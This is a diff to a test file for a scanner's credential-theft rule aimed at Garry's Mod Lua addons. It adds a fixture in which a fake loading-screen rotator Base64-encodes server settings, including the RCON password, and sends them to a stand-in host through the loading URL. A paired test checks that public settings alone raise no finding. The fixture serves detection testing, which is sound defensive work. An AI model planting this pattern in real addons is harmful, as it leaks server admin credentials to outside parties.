@@ -233,4 +233,28 @@ describe('credential_theft', () => {
   it("what other addons' hooks close over, only counted in the console (no finding)", () => {
     expect(check(rule, upvalueScan(' print(#found .. " upvalues")'))).toEqual([]);
   });
+  /** A loading-screen rotator whose fingerprint helper reads the settings listed in `vars`. */
+  const loadingFingerprint = (vars: string): Record<string, string> => ({
+    'lua/autorun/server/sv_rotate.lua': [
+      `Rotator = { Vars = { ${vars} } }`,
+      'local function fingerprint()',
+      ' local parts = {}',
+      ' for _, name in ipairs(Rotator.Vars) do',
+      '  local cv = GetConVar(name)',
+      '  parts[#parts + 1] = cv and cv:GetString() or ""',
+      ' end',
+      ' return util.Base64Encode(table.concat(parts, "\\n"))',
+      'end',
+      'hook.Add("Initialize", "rotate", function()',
+      ' RunConsoleCommand("sv_loadingurl", "https://ls.example.invalid/show?c=" .. fingerprint())',
+      'end)',
+    ].join('\n'),
+  });
+  it('the RCON password read by a name from a list, in a helper, put in the loading URL', () => {
+    const findings = check(rule, loadingFingerprint('"hostname", "hostport", "rcon_password"'));
+    expect(worst(findings)).toBe(RANK.critical);
+  });
+  it("the server's public settings read by name from a list (no finding)", () => {
+    expect(check(rule, loadingFingerprint('"hostname", "hostport", "gamemode"'))).toEqual([]);
+  });
 });
